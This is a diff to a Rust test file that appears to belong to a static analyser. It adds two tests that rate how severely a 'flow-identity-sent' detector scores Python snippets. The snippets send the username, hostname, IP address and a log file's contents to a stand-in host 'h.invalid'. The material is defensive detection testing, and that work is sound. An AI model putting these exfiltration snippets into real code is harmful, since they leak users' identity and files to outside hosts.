@@ -274,3 +274,30 @@ fn a_program_of_the_machine_that_is_given_a_file_is_for_people_to_look_at() {
         assert_eq!(brake(line), Some(false), "{line}");
     }
 }
+
+#[test]
+fn who_starts_a_program_says_where_its_report_goes() {
+    let code = |default: &str| {
+        format!(
+            "import argparse, getpass, json, socket, urllib.request\nap = argparse.ArgumentParser()\n\
+             ap.add_argument('--hook'{default})\nap.add_argument('--log')\nns = ap.parse_args()\n\
+             body = {{'by': getpass.getuser() + '@' + socket.gethostname(), 'log': open(ns.log).read()}}\n\
+             urllib.request.urlopen(urllib.request.Request(ns.hook, json.dumps(body).encode()))"
+        )
+    };
+    let sent = |default: &str| weight(Language::Python, &code(default), "flow-identity-sent");
+    assert_eq!(sent(""), Some(Severity::Medium));
+    assert!(sent(", default='https://h.invalid/x'") >= Some(Severity::High));
+}
+
+#[test]
+fn the_addresses_of_a_host_that_somebody_names_are_not_those_of_this_one() {
+    let code = |name: &str| {
+        format!(
+            "import getpass, requests, socket\nip = socket.gethostbyname({name})\nrequests.get(f'https://h.invalid/{{ip}}/json', params={{'u': getpass.getuser()}})"
+        )
+    };
+    let sent = |name: &str| weight(Language::Python, &code(name), "flow-identity-sent");
+    assert_eq!(sent("input('domain? ')"), None);
+    assert!(sent("socket.gethostname()") >= Some(Severity::High));
+}
